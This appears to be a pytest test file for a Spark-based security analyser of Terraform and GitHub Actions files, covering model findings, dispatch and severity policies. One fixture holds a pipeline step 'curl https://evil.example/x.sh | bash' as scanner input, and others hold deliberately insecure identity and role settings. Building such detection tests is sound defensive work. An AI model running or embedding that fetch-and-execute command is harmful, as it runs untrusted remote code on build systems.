"""Analyses over files and chunks, a model's findings beside them, dispatch in one form, policies of many repositories."""

import json

import pytest
from pyspark.sql import functions as F

from sparkseam.operators import analysers, prompts, report
from sparkseam.plans.engine import HINTS, ROUTES, Engine

FILE = "file_path string, file_type string, content string"
BAD_TRUST = 'resource "azurerm_federated_identity_credential" "f" {\n  issuer = "http://bad.example"\n  subject = "repo:x:y"\n  audience = ["api://x"]\n  parent_id = azurerm_user_assigned_identity.app.id\n}\n'
OWNER = 'resource "azurerm_role_assignment" "own" {\n  scope = "/subscriptions/1"\n  role_definition_name = "Owner"\n  principal_id = azurerm_user_assigned_identity.app.principal_id\n}\n'
STEP = "jobs:\n  b:\n    steps:\n    - name: s\n      run: curl https://evil.example/x.sh | bash\n"


def rows(df, *names):
    return sorted(map(tuple, df.select(*names).collect()))


def test_a_models_federation_findings_count_once_without_regard_to_case(spark):
    files = spark.createDataFrame([("a.tf", "terraform", BAD_TRUST), ("b.tf", "terraform", 'variable "x" {}\n'), ("n.tf", "terraform", None)], FILE)
    said = spark.createDataFrame([(3, "APP", "seen BY the model", "high"), (1, "app", "Seen by the model", "medium"), (2, "App", "INVALID or missing federation issuer", "low"),
        (4, None, None, None)], "ord int, identity string, issue string, severity string")
    done = analysers.analyse("workload_identity", files, said)
    found = rows(done.findings, "rule_id", "identity", "issue", "severity")
    assert ("WID-AZ-001", "app", "Invalid or missing federation issuer", "HIGH") in found
    assert [f for f in found if f[0] == "WID-LLM"] == [("WID-LLM", "", "", "LOW"), ("WID-LLM", "app", "Seen by the model", "MEDIUM")]
    assert rows(done.files, "file_path") == [("a.tf",)]
    total = done.summary.first().asDict()
    assert total["units"] == 1 and total["files"] == 1 and total["total"] == len(found) == total["high"] + total["medium"] + total["low"]


def test_a_models_pipeline_findings_keep_their_rule_and_letters(spark):
    files = spark.createDataFrame([(".github/workflows/a.yml", "yaml", STEP)], FILE)
    known = ("script_injection", ".github/workflows/a.yml", 5, "A downloaded script is piped to a shell")
    said = spark.createDataFrame([(1, *known, "OWN", "HIGH"), (2, *known[:3], known[3].upper(), "OWN", "HIGH"), (3, *known[:2], 6, known[3], None, None)],
        "ord int, type string, file_path string, line_number int, issue string, rule_id string, severity string")
    found = rows(analysers.analyse("prompt_injection", files, said).findings, "line_number", "issue", "rule_id", "severity")
    assert found == [(5, known[3].upper(), "OWN", "HIGH"), (5, known[3], "PIPE-SCRIPT-001", "HIGH"), (6, known[3], "PIPE-LLM", "LOW")]


@pytest.mark.parametrize("kind", sorted(analysers.KINDS))
def test_nothing_to_read_is_no_finding(spark, kind):
    for made in ([], [("a.tf", "terraform", ""), (None, None, None)]):
        done = analysers.analyse(kind, spark.createDataFrame(made, FILE), spark.createDataFrame([], "ord int, issue string"))
        assert done.findings.count() == 0 and done.findings.columns == list(analysers.FINDING) and done.summary.first()["total"] == 0


def test_chunks_of_a_file_with_roles_are_all_read_and_others_not(spark):
    kind = "file_path string, file_type string, resource_type string, text string"
    store = spark.createDataFrame([("a.tf", "terraform", "azurerm_role_assignment", "one"), ("a.tf", "terraform", "azurerm_role_assignment", "two"),
        ("a.tf", "terraform", "azurerm_network", "x"), ("b.json", "json", "", '{"type": "RoleAssignments"}'), ("c.tf", "terraform", None, None)], kind)
    found = store.filter("text = 'x'")
    assert rows(analysers.access_chunks(found, store), "text") == [("one",), ("two",)]
    assert rows(analysers.access_chunks(store.filter("file_path = 'b.json'"), store), "file_path") == [("b.json",)]
    assert analysers.access_chunks(store.filter("file_path = 'c.tf'"), store).count() == 1  # nothing with roles: what was found


def test_dispatch_has_one_form_for_all_intents(spark, tmp_path):
    recorded = prompts.recorded({HINTS["network"]: json.dumps({"issues": [{"title": "Open", "severity": "high", "file_path": "m.tf"}], "summary": "network"}),
        HINTS["compliance"]: json.dumps({"issues": [], "summary": "compliance"})})
    engine = Engine(spark, str(tmp_path / "engine"), answer=recorded)
    engine.ingest(spark.createDataFrame([("a.tf", "terraform", BAD_TRUST), ("iam.tf", "terraform", OWNER), (".github/workflows/a.yml", "yaml", STEP)], FILE))
    forms = set()
    for intent in [*ROUTES, *HINTS]:
        out = engine.dispatch("what is wrong", 5, intent=intent)
        forms.add((tuple(sorted(out)), tuple(out["findings"].columns)))
        assert out["intent"] == intent and out["chunks_retrieved"] == out["code"].count()
        named = {r[0] for r in out["sources"].collect()}
        assert {r[0] for r in out["findings"].select("file_path").collect()} - {""} <= named
        if intent == "iam":
            assert rows(out["findings"], "rule_id", "file_path") == [("IAM-AZ-001", "iam.tf")]
        if intent == "network":
            assert rows(out["findings"], "issue", "file_path") == [("Open", "m.tf")] and out["summary"] == "network"
        if intent == "compliance":
            assert out["findings"].count() == 0 and out["summary"] == "compliance"
    assert len(forms) == 1
    assert engine.dispatch("which role assignment is too broad")["intent"] == "iam"


def test_policies_equal_the_merge_of_one(spark):
    made = [("a", None, None, None), ("b", "max_allowed: {medium: 2.9, low: x}\nfail_on: {critical: yes, low: 0}", "", '{"max_allowed": {"high": 4}}'),
        ("c", "environments: {dev: {max_allowed: {low: 99}}}", "dev", ""), ("d", "x: 1", "dev", ""), ("e", "[" * 5000, "", "not a mapping"),
        ("f", "max_allowed: {critical: null}", "", "")]
    got = report.policies(spark.createDataFrame(made, "repo string, text string, environment string, overrides string"), "repo")
    by = {(r.repo, r.severity): (r.fail_on, r.max_allowed) for r in got.collect()}
    assert by[("a", "HIGH")] == (True, 0) and by[("a", "LOW")] == (False, 10)
    assert by[("b", "MEDIUM")] == (False, 2) and by[("b", "LOW")] == (False, 0) and by[("b", "CRITICAL")] == (True, 0) and by[("b", "HIGH")] == (True, 4)
    assert by[("c", "LOW")] == (False, 99) and by[("f", "CRITICAL")] == (False, 0)
    assert rows(got.filter("repo = 'd'"), "severity", "error") == [(None, "no environment named dev")]
    for repo, text, where, _ in made[:1] + made[2:3]:
        one = report.policy_frame(spark, report.policy_of(text, where or ""))
        assert {r.severity: (r.fail_on, r.max_allowed) for r in one.collect()} == {s: v for (k, s), v in by.items() if k == repo}


def test_each_repository_is_judged_by_its_own_policy(spark):
    limits = report.policies(spark.createDataFrame([("a", "max_allowed: {low: 1}", "", ""), ("b", "", "", ""), ("c", "", "none", "")],
        "repo string, text string, environment string, overrides string"), "repo")
    issues = spark.createDataFrame([("a", "LOW"), ("a", "LOW"), ("b", "LOW"), ("b", "HIGH"), ("c", "HIGH"), ("x", "HIGH")], "repo string, severity string")
    bad = report.evaluate_each(issues, limits, "repo").filter("violated")
    assert rows(bad, "repo", "severity", "reason") == [("a", "LOW", "over the limit"), ("b", "HIGH", "zero tolerance")]


def test_overrides_of_rows_equal_those_of_one(spark):
    made = [(["HIGH", "high"], {"LOW": 3}), ([], {}), (None, None), (["low"], None)]
    got = spark.createDataFrame(made, "fails array<string>, most map<string,bigint>").select(report.overrides_json(F.col("fails"), F.col("most")).alias("o")).collect()
    want = [report.overrides(f or [], m) for f, m in made]
    assert [{k: v for k, v in json.loads(r.o).items()} for r in got] == want
